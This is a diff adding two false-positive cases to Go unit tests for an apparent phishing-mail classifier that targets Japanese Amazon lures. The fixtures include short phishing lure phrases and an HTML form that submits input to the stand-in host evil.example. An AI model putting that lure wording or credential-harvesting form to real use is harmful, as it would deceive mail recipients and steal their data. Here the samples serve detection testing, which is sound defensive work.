@@ -53,6 +53,7 @@ func TestTextSignals(t *testing.T) {
 		{"an honest bracket", mail(from, lure, "[注文番号] 123 [Amazon]"), nil, []string{"text.macro"}},
 		{"simplified characters", mail(from, lure, "プライム月费のお支払い、会员サービスをご确认ください"), []string{"text.simplified"}, nil},
 		{"Japanese", mail(from, lure, "お客様のアカウント情報をご確認ください"), nil, []string{"text.simplified"}},
+		{"a Chinese name of goods in quotes", mail(from, lure, "ご注文ありがとうございます。「充电器 数据线」を発送しました。"), nil, []string{"text.simplified"}},
 		{"Chinese", mail(from, "您的账户", "您的亚马逊账户已被锁定,请验证"), nil, []string{"text.simplified"}},
 		{"lost characters", mail(from, lure, "ご確認?更新をお願いします"), []string{"text.question_marks"}, nil},
 		{"threat", mail(from, lure, "24時間以内にご確認ください"), []string{"text.threat"}, nil},
@@ -69,6 +70,7 @@ func TestHTMLSignals(t *testing.T) {
 	check(t, []sample{
 		{"form", page(from, lure, `<form action="https://evil.example/x"><input name=p></form>`), []string{"html.form:strong"}, nil},
 		{"form to the brand", page(from, lure, `<form action="https://www.amazon.co.jp/s"><input name=q></form>`), nil, []string{"html.form"}},
+		{"order data for mail programs", page(from, lure, `<script type="application/ld+json">{"@type":"Order"}</script>`), nil, []string{"html.script"}},
 		{"script", page(from, lure, `<script>x()</script>`), []string{"html.script"}, nil},
 		{"Chinese font", page(from, lure, `<p style="font-family: 微软雅黑">お客様のアカウントを確認してください</p>`), []string{"html.font"}, nil},
 		{"title", page("x <x@example.top>", "x", `<html><head><title>Amazon</title></head><body>Amazon voucher</body></html>`), []string{"brand.title"}, nil},
